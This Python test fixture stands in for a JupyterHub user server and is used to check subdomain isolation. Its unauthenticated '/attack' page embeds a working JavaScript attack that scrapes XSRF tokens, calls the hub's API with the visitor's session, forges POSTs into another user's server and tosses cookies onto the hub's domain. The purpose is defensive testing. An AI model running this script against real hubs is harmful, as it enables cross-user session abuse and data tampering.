"""A stand-in for a user's single-user server (jupyterhub-singleuser), for
test_jupyterhub_subdomains.py.

JupyterHub's SimpleLocalProcessSpawner starts it with the environment the hub
gives every user server (JUPYTERHUB_SERVICE_URL, JUPYTERHUB_API_TOKEN,
JUPYTERHUB_CLIENT_ID, JUPYTERHUB_OAUTH_*, JUPYTERHUB_COOKIE_HOST_PREFIX_ENABLED,
...). What is real: its sign-in is JupyterHub 5.5.0's own code for user
servers (`HubOAuthenticated`, `HubOAuthCallbackHandler`: the OAuth dance with
the hub, the server's cookie, the access scope check, JupyterHub's XSRF
rules), which jupyterhub-singleuser uses too. What stands in: instead of
JupyterLab it serves

- `<prefix>`: the owner's page (signed-in owner only): a secret and the XSRF
  token, as a Jupyter page carries one;
- `<prefix>api/notes` POST (signed-in owner, XSRF checked): an action in the
  server; each note is appended to `$NOTES_DIR/<user>.notes`;
- `<prefix>attack`: a page WITHOUT sign-in, which stands for anything the
  owner's own code may serve from their host (a user server runs its owner's
  code). It runs ATTACK_SCRIPT and records the names of the cookies the
  browser sent with it in `$NOTES_DIR/<user>.cookies`.
"""

from __future__ import annotations

import html
import json
import os
import sys
from pathlib import Path
from urllib.parse import urlparse

from jupyterhub.services.auth import HubOAuthCallbackHandler, HubOAuthenticated
from jupyterhub.utils import url_path_join
from tornado import ioloop, web

USER = os.environ["JUPYTERHUB_USER"]
PREFIX = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
NOTES = Path(os.environ["NOTES_DIR"])

#: Run in the visitor's browser from the owner's host: try to use the hub's
#: session (read a hub page for its XSRF token, then the hub's API as the
#: visitor) and to act in the victim's server (read its page, POST a note
#: with its XSRF token; and a blind no-cors POST), then toss cookies onto the
#: hub's host. Results in window.results.
ATTACK_SCRIPT = r"""
window.results = {done: false};
function framed(url) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    let settled = false;
    const finish = () => {
      if (settled) return;
      settled = true;
      let doc = null;
      try {
        doc = frame.contentDocument;
        if (doc && doc.location.href === "about:blank") doc = null;
      } catch (error) {
        doc = null;
      }
      resolve({frame, doc});
    };
    frame.onload = finish;
    setTimeout(finish, 8000);
    frame.src = url;
    document.body.appendChild(frame);
  });
}
async function attempt(name, action) {
  try {
    results[name] = await action();
  } catch (error) {
    results[name] = "error: " + error;
  }
}
(async () => {
  const params = new URLSearchParams(location.search);
  const hub = params.get("hub");
  const victim = params.get("victim");
  await attempt("hub_api", async () => {
    const response = await fetch(hub + "/hub/api/user", {credentials: "include"});
    return response.status + " " + (await response.text());
  });
  await attempt("hub_api_with_xsrf", async () => {
    // Hub pages refuse frames (frame-ancestors 'none'): read one with fetch.
    const page = await (await fetch(hub + "/hub/home", {credentials: "include"})).text();
    const found = page.match(/xsrf_token: "([^"]+)"/);
    if (!found) return "no token in the hub's page";
    const token = found[1];
    const response = await fetch(hub + "/hub/api/user", {
      credentials: "include", headers: {"X-XSRFToken": token},
    });
    return response.status + " " + (await response.text());
  });
  await attempt("victim_page", async () => {
    const {doc} = await framed(victim);
    if (!doc) return "no access to the victim's page";
    const secret = doc.getElementById("secret");
    return secret ? secret.textContent : "no secret on " + doc.location.href;
  });
  await attempt("victim_action", async () => {
    const {doc} = await framed(victim);
    if (!doc) return "no access to the victim's page";
    const meta = doc.querySelector("meta[name=xsrf]");
    if (!meta) return "no token on " + doc.location.href;
    const response = await fetch(victim + "api/notes", {
      method: "POST", credentials: "include",
      headers: {"X-XSRFToken": meta.content}, body: "written by the attacker's page",
    });
    return response.status;
  });
  await attempt("victim_blind_action", async () => {
    await fetch(victim + "api/notes", {
      method: "POST", mode: "no-cors", credentials: "include",
      body: "written blind by the attacker's page",
    });
    return "sent";
  });
  await attempt("tossed", async () => {
    // Cookie tossing: cookies for the hub's host set from this one (a parent
    // domain). A `__Host-` name with a Domain attribute must be refused.
    const parent = new URL(hub).hostname;
    document.cookie = "__Host-jupyterhub-hub-login=tossed; Domain=" + parent + "; Path=/; Secure";
    document.cookie = "jupyterhub-hub-login=tossed; Domain=" + parent + "; Path=/; Secure";
    return document.cookie;
  });
  results.done = true;
})();
"""


class OwnerPage(HubOAuthenticated, web.RequestHandler):  # type: ignore[misc]
    @web.authenticated
    def get(self) -> None:
        name = html.escape(self.get_current_user()["name"])
        token = html.escape(self.xsrf_token.decode())
        self.write(
            f'<html><head><title>server of {name}</title><meta name="xsrf" content="{token}">'
            f'</head><body><p id="owner">{name}</p><p id="secret">secret of {name}</p>'
            "</body></html>"
        )


class Notes(HubOAuthenticated, web.RequestHandler):  # type: ignore[misc]
    @web.authenticated
    def post(self) -> None:
        with (NOTES / f"{USER}.notes").open("a") as notes:
            notes.write(json.dumps(self.request.body.decode(errors="replace")) + "\n")
        self.set_status(201)


class AttackPage(web.RequestHandler):
    def get(self) -> None:
        with (NOTES / f"{USER}.cookies").open("a") as seen:
            seen.write(json.dumps(sorted(self.request.cookies)) + "\n")
        self.write(f"<html><body><script>{ATTACK_SCRIPT}</script></body></html>")


def main() -> None:
    url = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
    app = web.Application(
        [
            (PREFIX, OwnerPage),
            (url_path_join(PREFIX, "oauth_callback"), HubOAuthCallbackHandler),
            (url_path_join(PREFIX, "api/notes"), Notes),
            (url_path_join(PREFIX, "attack"), AttackPage),
        ],
        cookie_secret=os.urandom(32),
        xsrf_cookies=True,
    )
    app.listen(url.port or 0, url.hostname or "127.0.0.1")
    print(f"stand-in server of {USER} on {url.geturl()}", file=sys.stderr, flush=True)
    ioloop.IOLoop.current().start()


if __name__ == "__main__":
    main()
